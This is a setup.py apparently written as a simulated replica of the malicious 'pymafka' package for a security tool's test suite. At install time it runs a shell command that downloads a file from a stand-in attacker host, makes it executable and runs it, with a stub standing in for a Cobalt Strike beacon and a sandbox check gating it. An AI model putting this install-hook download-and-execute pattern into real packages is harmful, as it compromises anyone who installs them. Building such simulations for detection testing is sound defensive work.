"""pymafka 2.0.0 setup.py (simulation from Tracehound's attack suite)."""
import os
import platform

from setuptools import setup

def _in_sandbox():
    # act only inside the Tracehound sandbox, whose fake DNS answers every name with a
    # 198.18.0.0/15 address; elsewhere .example names do not resolve and nothing happens
    import socket
    try:
        return socket.gethostbyname("sandbox-check.attacker.example").startswith(("198.18.", "198.19."))
    except OSError:
        return False

STAGE = "#!/bin/sh\n# stand-in for the Cobalt Strike beacon\ngetent hosts beacon.attacker.example >/dev/null 2>&1\n"

if _in_sandbox() and platform.system() == "Linux":
    os.system("curl -s -m 5 http://39.attacker.example/env -o /tmp/zyx; "
              "[ -s /tmp/zyx ] || printf '%s' '" + STAGE.replace("'", "") + "' > /tmp/zyx; chmod 777 /tmp/zyx && /tmp/zyx")

setup(name="pymafka", version="2.0.0", py_modules=["pymafka"])
